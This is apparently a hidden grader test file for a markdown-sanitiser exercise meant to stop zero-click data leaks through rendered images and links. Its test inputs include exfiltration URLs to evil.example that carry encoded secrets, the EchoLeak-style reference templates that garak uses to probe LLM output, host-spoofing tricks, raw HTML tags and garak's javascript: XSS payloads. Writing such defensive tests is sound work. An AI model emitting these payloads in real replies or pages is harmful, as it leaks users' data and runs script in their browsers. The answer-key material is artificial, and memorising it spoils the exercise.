"""Hidden checks for `safe_markdown`: is_allowed_url(), and safe_inline() through the
provided render_safe_markdown().

The output is judged the way a user meets it: rendered with markdown-it-py's CommonMark
preset, the HTML read with html.parser, every src and href parsed with urlsplit.
Host names are reserved for documentation and tests (RFC 2606, RFC 6761): the allowed
host is img.example.com, the attacker's is evil.example. The reference-style templates
are the ones garak's web_injection probes build from the EchoLeak write-up, and the
script URLs are garak's `markdown_js` payloads (garak is Apache-2.0; see
ATTRIBUTION.md).
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

from markdown_it import MarkdownIt

HOSTS = frozenset({"img.example.com"})
LEAK = "https://evil.example/logo.png?q=U2VjcmV0IHBsYW5z"  # base64 "Secret plans"

# garak web_injection.MarkdownURIImageExfilExtended / ...NonImageExfilExtended templates.
GARAK_IMAGE_TEMPLATES = [
    "![{text}]({uri})",
    "![{text}][ref]\n\n[ref]: {uri}",
    "![{text}][]\n\n[{text}]: {uri}",
    "![{text}][{text}]\n\n[{text}]: {uri}",
]
GARAK_LINK_TEMPLATES = [t[1:] for t in GARAK_IMAGE_TEMPLATES]

# garak/data/payloads/markdown_js.json; the checks put each one in [link](...).
GARAK_MARKDOWN_JS = [
    "javascript:prompt(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K",
    "javascript:window.onerror=alert;throw%20document.cookie",
    "javascript:window.onerror=confirm;throw%201",
    '"onerror="alert(1)',
    ".alert(1);",
    "javascript:new%20Function`al\\ert\\`1\\``;",
]

ZERO_CLICK = (
    "The client fetches images on its own, so the query string reaches the attacker's "
    "server without a single click (MITRE ATLAS AML.T0077)."
)


RENDERER = MarkdownIt("commonmark")


class _Page(HTMLParser):
    """What a browser gets from the rendered HTML: URLs it fetches or follows, and text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []
        self.images: list[str] = []
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name in ("src", "href") and value:
                self.urls.append(value)
                if tag == "img":
                    self.images.append(value)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


ONE_CLICK = (
    "One click on that link sends whatever its URL carries to a host that is not on the "
    "allow-list (and a javascript: or data: link runs code in your page)."
)


def _render(exercise, md, hosts=HOSTS):
    """render_safe_markdown(md), with to_markdown()'s refusals turned into advice."""
    try:
        got = exercise.render_safe_markdown(md, set(hosts))
    except ValueError as exc:
        raise AssertionError(
            f"render_safe_markdown({md!r}, {sorted(hosts)}) raised ValueError: {exc} "
            "safe_inline() must return only PLAIN_INLINE tokens, text_token()s, allowed "
            "images, and allowed links with both their link_open and link_close."
        ) from None
    assert isinstance(got, str), (
        f"render_safe_markdown({md!r}) returned {got!r}, expected a str. Keep the provided "
        "render_safe_markdown() as it is; your code goes into safe_inline()."
    )
    return got


def _page(markdown: str) -> _Page:
    page = _Page()
    page.feed(RENDERER.render(markdown))
    page.close()
    return page


def _foreign(url: str, hosts=HOSTS) -> bool:
    try:
        parts = urlsplit(url)
        return parts.scheme not in ("http", "https") or parts.hostname not in hosts
    except ValueError:
        return True


def _no_leak(exercise, md, what, hosts=HOSTS):
    """Render md safely; fail if the result still renders a URL off the allowed hosts."""
    got = _render(exercise, md, hosts)
    page = _page(got)
    foreign = [url for url in page.urls if _foreign(url, hosts)]
    if foreign:
        kind = "an image" if foreign[0] in page.images else "a link"
        why = ZERO_CLICK if kind == "an image" else ONE_CLICK
        raise AssertionError(
            f"render_safe_markdown({md!r}, {sorted(hosts)}) returned {got!r}, which a "
            f"CommonMark renderer turns into {kind} to {foreign[0]!r} ({what}). {why}"
        )
    return got, "".join(page.text)


def test_url_check_accepts_allowed_hosts(exercise):
    """is_allowed_url accepts http(s) URLs on an allowed host, in any letter case"""
    cases = [
        ("https://img.example.com/q1.png", HOSTS),
        ("http://img.example.com/q1.png?size=2", HOSTS),
        ("https://img.example.com:8443/charts/q1.png#top", HOSTS),
        ("HTTPS://IMG.EXAMPLE.COM/Q1.PNG", HOSTS),
        ("https://Img.Example.Com/q1.png", HOSTS),
        ("https://img.example.com/q1.png", {"IMG.Example.COM"}),
        ("https://docs.example.org/guide", {"img.example.com", "docs.example.org"}),
    ]
    for url, hosts in cases:
        got = exercise.is_allowed_url(url, set(hosts))
        assert got is True, (
            f"is_allowed_url({url!r}, {sorted(hosts)!r}) returned {got!r}, expected True: the "
            "scheme is http(s) and urlsplit(url).hostname (which is lower-cased and has no "
            "port) equals an allowed host once that is lower-cased too. Host names are "
            "case-insensitive; blocking your own images makes people switch the filter off."
        )


def test_url_check_rejects_lookalike_hosts(exercise):
    """is_allowed_url rejects hosts that merely contain, end with or resemble an allowed host"""
    cases = [
        ("https://img.example.com.evil.example/x.png", "the allowed name, then .evil.example"),
        ("https://evil.example?img.example.com/x.png", "the allowed name in the query string"),
        ("https://evil.example/img.example.com/x.png", "the allowed name in the path"),
        ("https://evil.example#img.example.com", "the allowed name in the fragment"),
        ("https://img.example.com@evil.example/x.png", "the allowed name as a user name"),
        ("https://img.example.com:443@evil.example/x.png", "the allowed name as user:password"),
        ("https://notimg.example.com/x.png", "a longer name that ends with the allowed one"),
        ("https://cdn.img.example.com/x.png", "a subdomain that is not on the list"),
        ("https://example.com/x.png", "the parent domain"),
        ("https://\u0456mg.example.com/x.png", "a Cyrillic і instead of the Latin i"),
        ("https://xn--mg-goc.example.com/x.png", "the punycode form of that look-alike"),
        ("https://img.example.com%2eevil.example/x.png", "a percent-encoded dot"),
    ]
    for url, trick in cases:
        got = exercise.is_allowed_url(url, set(HOSTS))
        assert got is False, (
            f"is_allowed_url({url!r}, ['img.example.com']) returned {got!r}, expected False: "
            f"{trick}. Compare urlsplit(url).hostname with the allowed hosts for EQUALITY; "
            "`in`, startswith() and endswith() on the URL or the host all let this through."
        )


def test_url_check_rejects_other_schemes_and_relative_urls(exercise):
    """is_allowed_url rejects javascript:, data:, file: and URLs without http(s)"""
    cases = [
        "javascript:alert(document.domain)",
        "JaVaScRiPt:alert(1)",
        "javascript://img.example.com/%0Aalert(1)",  # a host, and still a script
        "data:image/png;base64,iVBORw0KGgo=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "ftp://img.example.com/x.png",
        "/static/x.png",
        "x.png",
        "//img.example.com/x.png",
        "https:img.example.com/x.png",
        "",
    ]
    for url in cases:
        got = exercise.is_allowed_url(url, set(HOSTS))
        assert got is False, (
            f"is_allowed_url({url!r}, ['img.example.com']) returned {got!r}, expected False: "
            "only the schemes http and https with an explicit allowed host pass. Note that "
            "javascript://img.example.com/%0Aalert(1) HAS that host: checking the host alone "
            "lets a script through, so check urlsplit(url).scheme as well."
        )


def test_url_check_rejects_what_parsers_disagree_on(exercise):
    """is_allowed_url rejects backslashes, whitespace, control characters and unparsable URLs"""
    cases = [
        ("https://evil.example\\@img.example.com/x.png",
         "urlsplit says img.example.com, a browser says evil.example (\\ is / to it)"),
        ("https://evil.example\\\\img.example.com/x.png", "a backslash"),
        ("https://img.example.com/x.png\n", "a newline"),
        ("https://img.exa\tmple.com/x.png", "a tab, which browsers silently drop"),
        (" https://evil.example/x.png", "leading whitespace"),
        ("https://img.example.com\x00.evil.example/", "a NUL character"),
        ("https://[img.example.com/x.png", "urlsplit raises ValueError: a False, not a crash"),
        ("https://evil.example\uff03@img.example.com/",
         "a fullwidth # that urlsplit rejects with ValueError"),
    ]
    for url, why in cases:
        got = exercise.is_allowed_url(url, set(HOSTS))
        assert got is False, (
            f"is_allowed_url({url!r}, ['img.example.com']) returned {got!r}, expected False: "
            f"{why}. When two URL parsers could disagree about the host, refuse."
        )
    for value in [None, b"https://img.example.com/x.png", 42]:
        got = exercise.is_allowed_url(value, set(HOSTS))
        assert got is False, (
            f"is_allowed_url({value!r}, ['img.example.com']) returned {got!r}, expected False: "
            "anything that is not a str is not an allowed URL, and the check must never raise."
        )


def test_keeps_allowed_and_ordinary_markdown(exercise):
    """Keeps allowed images and links, plain text, brackets, lists and code as they render"""
    texts = [
        "Q1 sales: ![chart](https://img.example.com/q1.png \"Sales by month\")",
        "See [the guide](https://img.example.com/guide.html) or <https://img.example.com/>.",
        "![logo][l]\n\n[l]: https://img.example.com/logo.png",
        "[![chart](https://img.example.com/c.png)](https://img.example.com/c.html)",
        "Prices rose [sic] by 3 % (see table). 2 < 3 and 5 > 4. *Really* **now**, `x[0]`.",
        "```python\nrows = [r for r in data if r[0] < 10]\n```",
        "- item one\n- item two\n\n> quoted [note]: not a definition here",
        "# Report\n\n1. first\n2. second with ![icon](https://IMG.EXAMPLE.COM/i.png)",
        "Grüße 👋 — ünïcödé text stays too.",
        "",
    ]
    for md in texts:
        got = _render(exercise, md)
        want, have = RENDERER.render(md), RENDERER.render(got)
        assert have == want, (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, which "
            f"renders as {have!r}; the input renders as {want!r}. Every URL here is on the "
            "allowed host (or there is none), so nothing should change: keep allowed "
            "images, allowed link_open/link_close pairs and every PLAIN_INLINE token. A "
            "filter that blocks your own images gets switched off."
        )


def test_neutralises_inline_images_and_links(exercise):
    """Replaces refused images with [image: ALT] and refused links with their text"""
    cases = [
        (f"Done! ![loading]({LEAK})", "[image: loading]"),
        (f"![]({LEAK})", "[image]"),
        (f'![chart]({LEAK} "Q1")', "[image: chart]"),
        ("![x](<https://evil.example/a b.png>)", "[image: x]"),
        ("![x](HTTPS://EVIL.EXAMPLE/x.png)", "[image: x]"),
        ("![x](https://img.example.com@evil.example/x.png)", "[image: x]"),
        (f"Read [the report]({LEAK}) now.", "the report"),
        ("[click](//evil.example/x)", "click"),
        (f"![a](https://img.example.com/a.png) ![b]({LEAK})", "[image: b]"),
        (f"[![img]({LEAK})](https://img.example.com/page)", "[image: img]"),
        (f"[![img](https://img.example.com/i.png)]({LEAK})", ""),
    ]
    for md, visible in cases:
        got, text = _no_leak(exercise, md, "an inline image or link whose URL is not allowed")
        assert visible in text, (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, whose "
            f"visible text {text!r} lacks {visible!r}: a refused image becomes "
            "text_token('[image: ALT]') ('[image]' without alt text), and a refused link "
            "keeps its text (drop only its link_open and link_close)."
        )
    md = "![a](https://img.example.com/a.png) [b](https://img.example.com/b)" + f" ![c]({LEAK})"
    got, _ = _no_leak(exercise, md, "one refused image among allowed ones")
    kept = _page(got).urls
    assert kept == ["https://img.example.com/a.png", "https://img.example.com/b"], (
        f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, which keeps "
        f"the URLs {kept}; expected the allowed image and link to stay. Decide on each "
        "token separately."
    )


def test_neutralises_reference_style_images_and_links(exercise):
    """Neutralises reference-style images and links wherever the definition is written"""
    for template in GARAK_IMAGE_TEMPLATES + GARAK_LINK_TEMPLATES:
        md = template.format(text="Q1 numbers", uri=LEAK)
        got, text = _no_leak(exercise, md, "a reference-style image or link, as in EchoLeak")
        assert "Q1 numbers" in text, (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}: the "
            "visible text 'Q1 numbers' disappeared. Keep the alt text or link text."
        )
    variants = [
        (f"![a][r]\n\n> [r]: {LEAK}", "a definition in a block quote"),
        (f"![a][r]\n\n- [r]: <{LEAK}>", "a definition in a list item"),
        (f"![a][r]\n\n   [r]: {LEAK} 'title'", "an indented definition with a title"),
        (f"![a][r]\n\n[R]:\n    {LEAK}\n    \"title on the next line\"",
         "a definition with its URL on the next line"),
        (f"![a][r]\r\n\r\n[r]: {LEAK}", "Windows line endings (\\r\\n)"),
        (f"![a][r]\r\r[r]: {LEAK}", "old Mac line endings (a lone \\r)"),
        (f"![a][r]\n\n-   > [r]: {LEAK}", "a definition in a block quote inside a list item"),
        (f"![a][r]\n\n> - a\n>\n>   [r]: {LEAK}", "a definition in a list item in a quote"),
        ("![a][r]\n\n1. [r]: https&colon;//evil.example/l.png?q=U2VjcmV0",
         "a definition in a numbered list, with &colon; for the colon"),
        ("![a][r]\r\r[r]: https&colon;//evil.example/l.png?q=U2VjcmV0",
         "a lone \\r and an entity: no 'https://' anywhere in the text"),
    ]
    for md, how in variants:
        _no_leak(exercise, md, f"a reference-style image: {how}. The parser resolves "
                 "![a][r] into an image token whose src IS the definition's URL: judge that")


def test_judges_the_url_the_renderer_uses(exercise):
    """Judges each URL as the renderer reads it: entities, escapes and parentheses included"""
    cases = [
        ("![x](https://evil.example&num;@img.example.com/p.png)",
         "&num; is '#': the host ends before it, so the browser fetches from evil.example"),
        ("![x](https://evil.example&quest;@img.example.com/p.png)", "&quest; is '?'"),
        ("![x](https://evil.example&sol;@img.example.com/p.png)", "&sol; is '/'"),
        ("![x](https://evil.example&#35;@img.example.com/p.png)", "&#35; is '#' too"),
        ("![x](https&colon;//evil.example/p.png?q=((SECRET)))",
         "&colon; is ':', and parentheses nest"),
        ("![x](https://evil.example/p.png?q=((SECRET)))", "nested parentheses in the URL"),
        ("![x](https://evil.example/p.png?q=\\(SECRET)", "an escaped parenthesis"),
        ("![x](<https://evil.example/p.png?q=(>)", "a lone parenthesis inside <...>"),
        ("[x](https://evil.example/?q=(a)(b)) more", "two pairs of parentheses"),
    ]
    for md, how in cases:
        _no_leak(exercise, md, f"{how}. Use the src/href of the token: it is the decoded URL")
    md = "![x](https&colon;//img.example.com/p.png)"
    got = _render(exercise, md)
    kept = _page(got).urls
    assert kept == ["https://img.example.com/p.png"], (
        f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, keeping "
        f"{kept}: once &colon; is decoded this is https://img.example.com/p.png, an allowed "
        "image. Judge the token's src, not the text as it was written."
    )


def test_neutralises_autolinks_html_and_script_urls(exercise):
    """Removes refused autolinks, every raw HTML tag, and javascript:/data: links"""
    cases = [
        (f"<{LEAK}>", "[link removed]"),
        ("<ann@example.com>", "[link removed]"),
        ("<https://img.example.com@evil.example/>", "[link removed]"),
    ]
    for md, visible in cases:
        got, text = _no_leak(exercise, md, "an autolink")
        assert visible in text and "evil.example" not in text, (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, whose "
            f"visible text is {text!r}; expected {visible!r} and nothing of the URL. An "
            "autolink's text IS its URL: replace the whole autolink (markup 'autolink') "
            "with text_token(LINK_REMOVED). Renderers with linkify would make the URL "
            "clickable again."
        )
    # markdown-it never makes this a link (it refuses javascript: itself): text is fine.
    _no_leak(exercise, "<JAVASCRIPT:alert(1)>", "a script autolink")
    html = [
        (f'<img src="{LEAK}">', ""),
        (f"Hi <IMG SRC={LEAK} alt=x> there", "Hi"),
        (f'<img\nsrc="{LEAK}"\n/>', ""),
        ('<img src="https://img.example.com/a.png">', ""),
        (f'<a href="{LEAK}">click here</a>', "click here"),
        (f'<iframe src="{LEAK}"></iframe>', ""),
        (f'x <svg><image href="{LEAK}"/></svg>', "x"),
        (f'<div>\n<img src="{LEAK}">\n</div>\n\nafter', "after"),
    ]
    for md, visible in html:
        got, text = _no_leak(exercise, md, "raw HTML")
        tags = [tag for tag in _page(got).tags if tag not in ("p",)]
        assert not tags and visible in text, (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, which "
            f"renders the HTML tags {tags} and the text {text!r} (expected {visible!r} to "
            "stay). Drop every html_inline token, whatever its URL: HTML has too many ways "
            "to carry one (src, srcset, href, poster) to vet."
        )
    for payload in GARAK_MARKDOWN_JS:
        md = f"[link]({payload})"
        got, text = _no_leak(exercise, md, "a published XSS payload")
        assert "link" in text, (
            f"render_safe_markdown({md!r}, ['img.example.com']) returned {got!r}, visible "
            f"text {text!r}: the link text 'link' should stay, as text. (In a web UI this "
            "link would run script in your origin when clicked; only http(s) URLs on "
            "allowed hosts survive.)"
        )


def test_handles_empty_and_long_input(exercise):
    """Handles an empty reply and a long one"""
    got = _render(exercise, "")
    assert got.strip() == "", f"render_safe_markdown('', ...) returned {got!r}, expected ''."
    paragraph = (
        "Revenue grew in every region. ![chart](https://img.example.com/r.png) "
        f"See [details]({LEAK}).\n\n"
    )
    # 100 paragraphs hold 100 allowed charts and 100 refused links: enough to show that
    # every one is judged, not only the first few. A longer reply only timed markdown-it
    # (500 paragraphs took 0.6 s): the learner's code sees one paragraph's tokens at a
    # time, so a longer reply cannot make it slower per link.
    md = paragraph * 100
    got, text = _no_leak(exercise, md, "in a reply of 100 paragraphs")
    charts = _page(got).urls.count("https://img.example.com/r.png")
    assert charts == 100 and text.count("details") == 100, (
        f"render_safe_markdown() on 100 paragraphs (about 14 kB) kept {charts} of the 100 "
        f"allowed charts and {text.count('details')} of the 100 link texts: every refused "
        "link must go and every allowed image must stay, however long the reply."
    )
